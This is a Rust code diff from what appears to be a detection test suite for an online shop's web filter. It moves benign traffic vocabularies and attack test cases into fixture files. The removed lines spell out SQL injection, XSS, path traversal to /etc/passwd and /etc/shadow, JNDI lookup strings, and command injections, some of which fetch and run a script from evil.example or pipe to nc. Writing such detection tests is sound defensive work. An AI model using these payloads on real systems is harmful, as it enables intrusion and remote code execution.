@@ -363,89 +363,20 @@ impl TestRequest {
     }
 }
 
-const USER_AGENTS: &[&str] = &[
-    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
-    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
-    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
-    "shop-mobile/3.12.1 (Android 14; Pixel 8)",
-    "curl/8.5.0",
-];
-const ACCEPTS: &[&str] = &[
-    "application/json",
-    "*/*",
-    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
-    "application/json, text/plain, */*",
-];
-const LANGUAGES: &[&str] = &[
-    "en-US,en;q=0.9",
-    "de-DE,de;q=0.8,en;q=0.5",
-    "fr-FR",
-    "en-GB,en;q=0.7",
-];
-const CATEGORIES: &[&str] = &[
-    "shoes", "hats", "jackets", "bags", "socks", "gloves", "scarves", "belts",
-];
-const SORTS: &[&str] = &["price", "name", "rating", "newest"];
-const FILES: &[&str] = &[
-    "app.js",
-    "vendor.js",
-    "main.css",
-    "logo.png",
-    "hero-banner.jpg",
-    "icons.svg",
-];
-const FIRST: &[&str] = &[
-    "anna", "ben", "carla", "dmitri", "emma", "farid", "greta", "hiro",
-];
-/// Words of the learning vocabulary.
-const WORDS: &[&str] = &[
-    "red",
-    "blue",
-    "winter",
-    "running",
-    "leather",
-    "wool",
-    "summer",
-    "black",
-    "cotton",
-    "kids",
-    "waterproof",
-    "classic",
-    "slim",
-    "warm",
-    "light",
-    "travel",
-];
-/// Words never seen while learning: benign test traffic uses them to check that new but
-/// ordinary values pass.
-const NEW_WORDS: &[&str] = &[
-    "green", "hiking", "linen", "vintage", "yellow", "denim", "soft", "evening", "canvas",
-    "outdoor", "striped", "velvet",
-];
-const NOTES: &[&str] = &[
-    "leave at the door",
-    "please ring twice",
-    "gift wrap please",
-    "deliver after 5pm",
-    "call before delivery",
-    "ring",
-    "second floor",
-    "leave with the neighbour at number 12",
-    "fragile",
-    "the parcel box code is 4471",
-    "do not bend",
-    "",
-];
-const NEW_NOTES: &[&str] = &[
-    "back door is open",
-    "knock loudly",
-    "deliver before 9am",
-    "no gift receipt",
-    "porch",
-    "ask for the manager at reception",
-];
+/// The shop's vocabulary (`fixtures/shop-vocabulary.txt`): a `[list]` line, then its entries.
+const VOCABULARY: &str = include_str!("../fixtures/shop-vocabulary.txt");
+
+/// The entries of one `[list]` of the shop's vocabulary.
+fn vocab(list: &str) -> Vec<&'static str> {
+    let head = format!("[{list}]");
+    let mut lines = VOCABULARY.lines().skip_while(|l| *l != head);
+    assert!(lines.next().is_some(), "shop-vocabulary.txt has no {head}");
+    lines
+        .take_while(|l| !l.starts_with('['))
+        .filter(|l| !l.is_empty() && !l.starts_with('#'))
+        .map(|l| if l == "\"\"" { "" } else { l })
+        .collect()
+}
 
 fn words(rng: &mut Rng, vocab: &[&str]) -> String {
     let n = 1 + rng.below(3);
@@ -458,23 +389,23 @@ fn words(rng: &mut Rng, vocab: &[&str]) -> String {
 /// Benign traffic of an online shop: several endpoints, ordinary varied values, browser-like
 /// headers. `fresh` draws search words and notes from a vocabulary never used in learning.
 pub fn benign(rng: &mut Rng, fresh: bool) -> TestRequest {
-    let vocab = if fresh { NEW_WORDS } else { WORDS };
-    let notes = if fresh { NEW_NOTES } else { NOTES };
+    let search_words = vocab(if fresh { "new-words" } else { "words" });
+    let notes = vocab(if fresh { "new-notes" } else { "notes" });
     let mut req = match rng.below(9) {
         0 => TestRequest::get(&format!(
             "/api/products?category={}&page={}&sort={}",
-            rng.pick(CATEGORIES),
+            rng.pick(&vocab("categories")),
             1 + rng.below(20),
-            rng.pick(SORTS)
+            rng.pick(&vocab("sorts"))
         )),
         1 => TestRequest::get(&format!("/api/products/{}", 1000 + rng.below(90000))),
-        2 => TestRequest::get(&format!("/search?q={}&lang=en", words(rng, vocab))),
+        2 => TestRequest::get(&format!("/search?q={}&lang=en", words(rng, &search_words))),
         3 => {
             let body = format!(
                 r#"{{"product_id":{},"quantity":{},"note":"{}","express":{}}}"#,
                 1000 + rng.below(90000),
                 1 + rng.below(5),
-                rng.pick(notes),
+                rng.pick(&notes),
                 rng.below(2) == 1
             );
             TestRequest::post("/api/orders", "application/json", body.as_bytes())
@@ -482,7 +413,7 @@ pub fn benign(rng: &mut Rng, fresh: bool) -> TestRequest {
         4 => {
             let body = format!(
                 "username={}{}&password={}&remember=on",
-                rng.pick(FIRST),
+                rng.pick(&vocab("first-names")),
                 rng.below(100),
                 rng.hex(12)
             );
@@ -497,7 +428,7 @@ pub fn benign(rng: &mut Rng, fresh: bool) -> TestRequest {
             10 + rng.below(5000),
             rng.pick(&["10", "20", "50"])
         )),
-        6 => TestRequest::get(&format!("/static/{}", rng.pick(FILES))),
+        6 => TestRequest::get(&format!("/static/{}", rng.pick(&vocab("files")))),
         7 => {
             let ext = rng.pick(&["jpg", "png"]);
             let ct = if ext == "jpg" {
@@ -505,15 +436,22 @@ pub fn benign(rng: &mut Rng, fresh: bool) -> TestRequest {
             } else {
                 "image/png"
             };
-            let file = format!("{}-{}.{ext}", rng.pick(FIRST), rng.below(1000));
+            let file = format!(
+                "{}-{}.{ext}",
+                rng.pick(&vocab("first-names")),
+                rng.below(1000)
+            );
             avatar_upload(&rng.hex(16), &(10 + rng.below(5000)).to_string(), &file, ct)
         }
-        _ => TestRequest::get(&format!("/api/products?category={}", rng.pick(CATEGORIES))),
+        _ => TestRequest::get(&format!(
+            "/api/products?category={}",
+            rng.pick(&vocab("categories"))
+        )),
     };
     req = req
-        .header("user-agent", rng.pick(USER_AGENTS))
-        .header("accept", rng.pick(ACCEPTS))
-        .header("accept-language", rng.pick(LANGUAGES));
+        .header("user-agent", rng.pick(&vocab("user-agents")))
+        .header("accept", rng.pick(&vocab("accepts")))
+        .header("accept-language", rng.pick(&vocab("languages")));
     if rng.below(2) == 0 {
         req = req.header("cookie", &format!("session={}", rng.hex(32)));
     }
@@ -553,9 +491,28 @@ pub fn avatar_upload(
     )
 }
 
+/// The attacks of `fixtures/attacks.tsv` (its header says how a line reads), shared by the
+/// detection and persistence suites.
+const ATTACKS: &str = include_str!("../fixtures/attacks.tsv");
+
+/// A field of `attacks.tsv` with each `{{TEXT*N}}` written out: TEXT N times.
+fn expand(field: &str) -> String {
+    let Some((head, rest)) = field.split_once("{{") else {
+        return field.to_string();
+    };
+    let parsed = rest.split_once("}}").and_then(|(inner, tail)| {
+        let (text, n) = inner.rsplit_once('*')?;
+        Some((text, n.parse::<usize>().ok()?, tail))
+    });
+    let Some((text, n, tail)) = parsed else {
+        panic!("attacks.tsv: {field:?}: {{{{TEXT*N}}}} expected");
+    };
+    format!("{head}{}{}", text.repeat(n), expand(tail))
+}
+
 /// Attacks, each named by its family, delivered in the places a real exploit would use.
 pub fn attacks() -> Vec<(&'static str, TestRequest)> {
-    let ua = USER_AGENTS[0];
+    let ua = vocab("user-agents")[0];
     let get = |target: &str| {
         TestRequest::get(target)
             .header("user-agent", ua)
@@ -575,143 +532,27 @@ pub fn attacks() -> Vec<(&'static str, TestRequest)> {
         )
         .header("user-agent", ua)
     };
-    vec![
-        ("sqli", get("/search?q=%27%20OR%20%271%27%3D%271&lang=en")),
-        (
-            "sqli",
-            get("/search?q=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--&lang=en"),
-        ),
-        (
-            "sqli",
-            get("/api/products?category=shoes%27--&page=1&sort=price"),
-        ),
-        (
-            "sqli",
-            get("/api/products?category=shoes&page=1%20AND%20SLEEP(5)&sort=price"),
-        ),
-        ("sqli", get("/api/products/1%20OR%201%3D1")),
-        ("sqli", get("/users/1;DROP%20TABLE%20users/orders?limit=10")),
-        ("sqli", login("admin%27--")),
-        ("sqli", login("x%27%20OR%201%3D1%23")),
-        (
-            "sqli",
-            order("x' || (SELECT password FROM users LIMIT 1) || '"),
-        ),
-        (
-            "sqli",
-            get("/search?q=shoes/**/UNION/**/SELECT/**/1&lang=en"),
-        ),
-        (
-            "sqli",
-            get("/api/products?category=0x73686f6573&page=1&sort=price"),
-        ),
-        (
-            "xss",
-            get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&lang=en"),
-        ),
-        (
-            "xss",
-            get("/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&lang=en"),
-        ),
-        (
-            "xss",
-            get("/search?q=javascript:alert(document.cookie)&lang=en"),
-        ),
-        ("xss", order("<svg/onload=alert(1)>")),
-        ("xss", login("%3Cb%20onmouseover%3Dalert(1)%3E")),
-        (
-            "xss",
-            get("/api/products?category=%3Ciframe%20src%3D%2F%2Fevil%3E&page=1&sort=name"),
-        ),
-        ("traversal", get("/static/../../etc/passwd")),
-        ("traversal", get("/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow")),
-        ("traversal", get("/static/..%2f..%2f..%2fetc%2fpasswd")),
-        ("traversal", get("/static/....//....//etc/passwd")),
-        (
-            "traversal",
-            get("/api/products?category=..%2F..%2Fetc%2Fpasswd&page=1&sort=name"),
-        ),
-        (
-            "cmdi",
-            get("/search?q=shoes%3B%20cat%20%2Fetc%2Fpasswd&lang=en"),
-        ),
-        ("cmdi", get("/search?q=%24(id)&lang=en")),
-        ("cmdi", get("/search?q=%60whoami%60&lang=en")),
-        (
-            "cmdi",
-            get("/search?q=a%20%7C%20nc%20evil.example%204444&lang=en"),
-        ),
-        ("cmdi", order("x && curl http://evil.example/x.sh | sh")),
-        ("cmdi", login("bob%0Aid")),
-        (
-            "jndi",
-            get("/search?q=shoes&lang=en").header("user-agent", "${jndi:ldap://evil.example/a}"),
-        ),
-        (
-            "jndi",
-            get("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fx%7D&lang=en"),
-        ),
-        (
-            "jndi",
-            get("/api/products/1234").header("x-api-version", "${jndi:rmi://evil.example/o}"),
-        ),
-        (
-            "jndi",
-            get("/api/products/1234")
-                .header("accept-language", "${${lower:j}ndi:dns://evil.example}"),
-        ),
-        (
-            "jndi",
-            order("${jndi:ldap://evil.example:1389/Basic/Command}"),
-        ),
-        (
-            "traversal",
-            avatar_upload(
-                "0123456789abcdef",
-                "42",
-                "../../../etc/cron.d/job",
-                "image/png",
-            )
-            .header("user-agent", ua),
-        ),
-        (
-            "cmdi",
-            avatar_upload(
-                "0123456789abcdef",
-                "42; curl evil.example|sh",
-                "anna-1.png",
-                "image/png",
-            )
-            .header("user-agent", ua),
-        ),
-        (
-            "xss",
-            avatar_upload(
-                "0123456789abcdef",
-                "42",
-                "<img src=x onerror=alert(1)>.png",
-                "image/png",
-            )
-            .header("user-agent", ua),
-        ),
-        (
-            "unknown-param",
-            get("/api/products?category=shoes&debug=true"),
-        ),
-        ("unknown-param", get("/users/42/orders?limit=10&admin=1")),
-        ("unknown-param", get("/search?q=shoes&lang=en&callback=x")),
-        (
-            "oversized",
-            get(&format!("/search?q={}&lang=en", "a".repeat(4000))),
-        ),
-        (
-            "oversized",
-            get("/api/products/1234").header("cookie", &format!("session={}", "f".repeat(6000))),
-        ),
-        ("oversized", order(&"lorem ipsum ".repeat(400))),
-        (
-            "oversized",
-            get(&format!("/api/products/{}", "9".repeat(300))),
-        ),
-    ]
+    let upload = |user_id: &str, filename: &str| {
+        avatar_upload("0123456789abcdef", user_id, filename, "image/png").header("user-agent", ua)
+    };
+    let lines = ATTACKS
+        .lines()
+        .filter(|l| !l.is_empty() && !l.starts_with('#'));
+    lines
+        .map(|line| {
+            let mut fields = line.split('\t');
+            let family = fields.next().unwrap_or_default();
+            let how = fields.next().unwrap_or_default();
+            let args: Vec<String> = fields.map(expand).collect();
+            let req = match (how, args.as_slice()) {
+                ("get", [target]) => get(target),
+                ("get", [target, name, value]) => get(target).header(name, value),
+                ("order", [note]) => order(note),
+                ("login", [user]) => login(user),
+                ("upload", [user_id, filename]) => upload(user_id, filename),
+                _ => panic!("attacks.tsv: {line:?}: not a form its header describes"),
+            };
+            (family, req)
+        })
+        .collect()
 }
